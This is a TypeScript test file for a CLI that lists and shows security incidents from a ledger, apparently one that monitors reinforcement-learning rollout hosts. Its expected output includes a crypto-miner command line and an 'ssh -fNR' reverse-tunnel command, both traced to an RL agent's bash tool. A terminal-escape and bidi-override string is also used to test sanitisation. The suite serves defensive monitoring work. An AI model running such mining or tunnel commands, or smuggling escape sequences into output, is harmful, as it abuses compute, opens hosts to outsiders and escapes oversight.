import { join } from "node:path";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { openLedger } from "../../src/ledger/client.ts";
import type { LedgerBatch } from "../../src/ledger/contract.ts";
import { alerting, merged, OWNER, romeBatches } from "../alert/fixtures/rome.ts";
import { incident } from "../ledger/fixtures/make.ts";
import { builtUrl } from "../support/built.ts";
import { assay, type Finished } from "./support/assay.ts";

const PRICES = `currency: EUR
default: { perGpuHour: 2.5 }
energy:
  - perKwh: "0.31"
    from: 2025-01-01
`;

const listSchema = z.object({
  incidents: z.array(
    z.looseObject({ id: z.string(), rule: z.string(), story: z.string().optional() }),
  ),
  next: z.string().optional(),
});

let stateDir: string;
let prices: string;

/** What a terminal would take for a command, and a reader for other text. */
const HOSTILE = "\u001B[2Jevil\u202Etxt\u0007";

async function write(batches: Iterable<LedgerBatch>): Promise<void> {
  const ledger = await openLedger({
    stateDir,
    mode: "write",
    workerUrl: builtUrl("ledger/worker.js"),
  });
  await ledger.append(merged(batches));
  await ledger.close();
}

beforeAll(async () => {
  stateDir = mkdtempSync(join(tmpdir(), "assay-incident-"));
  prices = join(stateDir, "prices.yaml");
  writeFileSync(prices, PRICES);
  const evil = incident({
    id: "inc_00evil",
    title: HOSTILE,
    summary: HOSTILE,
    ownerKey: `user:${HOSTILE}`,
    state: "resolved",
    resolvedAtMs: 5,
    evidence: [{ family: "host", feature: "x", value: HOSTILE, text: HOSTILE, weights: {} }],
    causes: [{ score: 0.1, reasons: [HOSTILE], context: { fromMs: 2 ** 53 - 1, tool: HOSTILE } }],
  });
  const twin = incident({ id: "inc_00twin", state: "resolved", resolvedAtMs: 5, ownerKey: "idle" });
  await write([...romeBatches(alerting()), { incidents: [evil, twin] }]);
});
afterAll(() => rmSync(stateDir, { recursive: true, force: true }));

const run = async (...args: string[]): Promise<Finished> =>
  assay(["incident", ...args, "--state-dir", stateDir]);

async function listed(...args: string[]) {
  const { code, stdout, stderr } = await run("list", "--json", ...args);
  expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
  return listSchema.parse(JSON.parse(stdout));
}

async function idOf(rule: string): Promise<string> {
  const { incidents } = await listed();
  return incidents.find((each) => each.rule === rule)?.id ?? "none";
}

/** Each test starts the program some times, on a machine that may do much else. */
const PATIENCE_MS = 120_000;

describe("assay incident list", { timeout: PATIENCE_MS }, () => {
  it("has the newest first, those that go on, and those of a story", async () => {
    const all = await listed();
    expect(all.incidents.map(({ rule }) => rule).sort()).toEqual([
      "mining",
      "mining",
      "mining",
      "mining",
      "pool",
      "tunnel",
    ]);
    const open = await listed("--open");
    expect(open.incidents.map(({ rule }) => rule).sort()).toEqual(["mining", "pool", "tunnel"]);
    const story = open.incidents[0]?.story ?? "";
    expect((await listed("--story", story)).incidents).toHaveLength(4);
    expect((await listed("--story", "sto_none")).incidents).toEqual([]);
  });

  it("goes on where it ended", async () => {
    const first = await listed("--limit", "4");
    expect(first.next).toBe(first.incidents.at(-1)?.id);
    const second = await listed("--limit", "4", "--after", first.next ?? "");
    expect(second.next).toBeUndefined();
    const ids = [...first.incidents, ...second.incidents].map(({ id }) => id);
    expect(ids).toEqual((await listed()).incidents.map(({ id }) => id));
  });

  it("prints what there is to choose by, and says where there is nothing", async () => {
    const { stdout } = await run("list", "--width", "120");
    expect(stdout).toContain("critical, goes on");
    expect(stdout).toContain("perhaps tool execute_bash of rollout-agent");
    expect((await run("list", "--story", "sto_none")).stdout).toBe("No such incident is known.\n");
  });
});

describe("assay incident show", { timeout: PATIENCE_MS }, () => {
  it("tells the whole story on one screen", async () => {
    const id = await idOf("mining");
    const { code, stdout } = await run("show", id, "--prices", prices, "--width", "100");
    expect(code).toBe(0);
    for (const said of [
      OWNER,
      "registry.example.org/rollouts:7",
      "0.37 GPU-hours, 0.253 kWh, 1.00 EUR",
      "telemetry, host, network",
      "132 slices",
      "holds one long-lived, thin connection to 10.77.0.2:3333",
      "an ssh process that opens a reverse tunnel",
      "0.82  tool execute_bash of rollout-agent, run rl-2026-03, episode ep-17, session s-91",
      "containerd-shim",
      "4242 (root) ./t-rex -o stratum+tcp://10.77.0.2:3333",
      "ssh -fNR 2222:localhost:22 out",
      "4th incident of this story in 4 days, 1.0 GPU-hours, 0.71 kWh, 2.80 EUR",
      "opened, critical",
    ])
      expect(stdout).toContain(said);
    const lines = stdout.split("\n");
    expect(lines.length).toBeLessThan(75);
    expect(Math.max(...lines.map((line) => line.length))).toBeLessThanOrEqual(100);
  });

  it("has the same in JSON, processes as the tree they came in", async () => {
    const { stdout } = await run("show", await idOf("mining"), "--json", "--prices", prices);
    const detail: Record<string, unknown> = JSON.parse(stdout);
    expect(detail).toMatchObject({
      severity: "critical",
      money: { amount: "1.00", currency: "EUR" },
      families: ["telemetry", "host", "network"],
      gpus: [{ uuid: "GPU-6f1e2d3c", index: 3, slices: 132, gpuSeconds: 1320 }],
      processes: [
        {
          pid: 900,
          children: [
            { pid: 4100, children: [{ pid: 4200, children: [{ pid: 4242 }, { pid: 4243 }] }] },
          ],
        },
      ],
      story: { incidents: 4, money: { amount: "2.80" } },
    });
  });

  it("costs nothing where there is no price list: no amount is shown at all", async () => {
    const { stdout } = await run("show", await idOf("mining"), "--json");
    expect(JSON.parse(stdout)).not.toHaveProperty("money");
  });

  it("takes the beginning of an id, with or without inc_", async () => {
    const id = await idOf("tunnel");
    const shorts = [id.slice(0, 9), id.slice(4, 9)];
    for (const { stdout } of await Promise.all(shorts.map((short) => run("show", short))))
      expect(stdout.split("  ")[0]).toBe(id);
  });

  it("refuses what begins no id, and what begins several", async () => {
    const unknown = ["inc_zzz", "inc_", "\u001B[31m"];
    for (const { code, stdout, stderr } of await Promise.all(
      unknown.map((id) => run("show", id)),
    )) {
      expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
      expect(stderr).toMatch(/error incident\/not-found[^]*hint: `assay incident list`/);
      expect(stderr).not.toContain("\u001B");
    }
    const { code, stderr } = await run("show", "00");
    expect(code).toBe(2);
    expect(stderr).toMatch(/error incident\/ambiguous[^]*inc_00evil, inc_00twin/);
  });

  it("hands no terminal what an observed process wrote", async () => {
    const shown = await run("show", "inc_00evil");
    expect(shown.code).toBe(0);
    const others = await Promise.all([run("list"), run("show", "inc_00evil", "--json")]);
    for (const { stdout } of [shown, ...others]) {
      expect(stdout).toContain("evil");
      for (const raw of ["\u001B", "\u202E", "\u0007"]) expect(stdout).not.toContain(raw);
    }
  });
});

it("says so where there is no ledger", async () => {
  const { code, stderr } = await assay(["incident", "list", "--state-dir", join(stateDir, "none")]);
  expect(code).toBe(2);
  expect(stderr).toContain("error ledger/missing");
});
